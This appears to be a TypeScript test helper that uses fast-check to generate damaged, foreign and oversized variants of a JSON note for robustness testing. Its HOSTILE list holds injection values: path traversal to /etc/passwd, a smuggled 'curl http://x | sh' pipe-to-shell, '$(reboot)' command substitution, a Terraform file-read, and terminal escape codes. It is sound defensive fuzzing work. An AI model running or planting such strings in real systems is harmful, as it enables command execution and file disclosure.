import fc from "fast-check";

/** What may lie in the place of a note of ours, in the words of a test's title. */
export interface Damage {
  readonly kind: string;
  readonly text: string;
}

type Note = Readonly<Record<string, unknown>>;

/** Text that a terminal would obey, that leads out of a folder, or that means something to a shell or to Terraform. */
export const HOSTILE = [
  "",
  " ",
  "../../victim",
  "..",
  "/etc/passwd",
  "a/b",
  "a\u0000b",
  "\u001b[2J\u001b[31mall is well",
  "ask kim\n    curl http://x | sh #",
  "\u009b31m",
  "\u202Egnp.exe",
  "\ud800",
  "$(reboot)",
  "`reboot`",
  '${file("/etc/hostname")}',
  "--force",
  "x".repeat(5000),
];

const WRONG = [null, true, false, 0, -1, 1.5, 1e308, 9007199254740991, [], {}, [[]], { a: { b: 1 } }];

const keyOf = (note: Note): fc.Arbitrary<string> => fc.constantFrom(...Object.keys(note));

const withKey = (note: Note, key: string, value: unknown): string =>
  JSON.stringify({ ...note, [key]: value });

/** Damaged, foreign and newer variants of a note, every kind of them. */
export function damagesOf(note: Note): fc.Arbitrary<Damage> {
  const whole = JSON.stringify(note);
  const of = (kind: string, text: fc.Arbitrary<string>): fc.Arbitrary<Damage> =>
    text.map((one) => ({ kind, text: one }));
  return fc.oneof(
    of("empty", fc.constantFrom("", " ", "\n", "\u0000", "\u0000".repeat(512))),
    of(
      "truncated",
      fc.integer({ min: 1, max: whole.length - 1 }).map((end) => whole.slice(0, end)),
    ),
    of("garbage", fc.string({ unit: "binary", maxLength: 200 })),
    of("other JSON", fc.json()),
    of(
      "JSON of no object",
      fc.constantFrom("null", "[]", '""', "1", "true", "{}", '{"__proto__":{"format":9}}'),
    ),
    of(
      "one key less",
      keyOf(note).map((key) => withKey(note, key, undefined)),
    ),
    of(
      "one key more",
      fc.tuple(fc.string(), fc.jsonValue()).map(([key, value]) => withKey(note, `x${key}`, value)),
    ),
    of(
      "another type",
      fc.tuple(keyOf(note), fc.constantFrom(...WRONG)).map(([key, value]) => withKey(note, key, value)),
    ),
    of(
      "hostile text",
      fc.tuple(keyOf(note), fc.constantFrom(...HOSTILE)).map(([key, value]) => withKey(note, key, value)),
    ),
    of(
      "a newer format",
      keyOf(note).map((key) => JSON.stringify({ ...note, [key]: { of: "a newer kind" }, format: 2 })),
    ),
    of(
      "deep nesting",
      fc.constantFrom(100, 9000).map((depth) => `{"a":${"[".repeat(depth)}${"]".repeat(depth)}}`),
    ),
    of("huge", fc.constant(withKey(note, "huge", "x".repeat(300_000)))),
  );
}

/** One of each kind, the same in every run. */
export const oneOfEach = (note: Note): readonly Damage[] => {
  const all = fc.sample(damagesOf(note), { numRuns: 300, seed: 1 });
  return [...new Map(all.map((one) => [one.kind, one])).values()];
};

/** What no line for a person may hold. */
// eslint-disable-next-line no-control-regex
export const OBEYED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/;
